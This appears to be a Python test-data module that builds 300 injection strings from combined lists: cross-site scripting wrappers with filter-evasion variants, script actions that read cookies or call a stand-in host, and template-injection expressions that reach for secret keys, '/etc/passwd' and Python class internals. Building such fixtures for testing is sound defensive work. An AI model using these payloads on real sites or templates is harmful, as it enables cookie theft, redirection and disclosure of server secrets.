"""Texts that a page, a template, a Word file or a PDF might take for something to do (T33): 300 of them."""

from __future__ import annotations

from itertools import product

_ACTS = ("alert(1)", "fetch('//x')", "top.location='//x'", "document.cookie")
_ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<a href=javascript:{}>x</a>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<style>@import '//x?{}'</style>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<body onpageshow={}>",
    "<form action=//x?{}><input type=submit>",
    "<base href=//x/{}>",
    "<meta http-equiv=refresh content='0;url=//x?{}'>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<scr<script>ipt>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<IMG SRC=&#106;avascript:{}>",
    "<details open ontoggle={}>",
)
_TEMPLATES = (
    "{{{{{}}}}}",
    "{{% {} %}}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    '#eval("{}")',
    '#image("{}")',
    '#include "{}"',
    "$ {} $",
    "`{}`",
    "@{}",
    "<{}>",
    "*{}*",
    "_{}_",
    "= {}",
    "/* {} */",
    "// {}",
    "\\{}",
    "[[{}]]",
)
_INSIDE = ("7*7", "settings.SECRET_KEY", "request.user", "''.__class__.__mro__", "/etc/passwd", "include 'x'", "load x",
           "self.env", "sys.inputs", "read('/etc/passwd')")  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(element.format(act) for element, act in product(_ELEMENTS, _ACTS)),
    *(template.format(inside) for template, inside in product(_TEMPLATES, _INSIDE)),
)
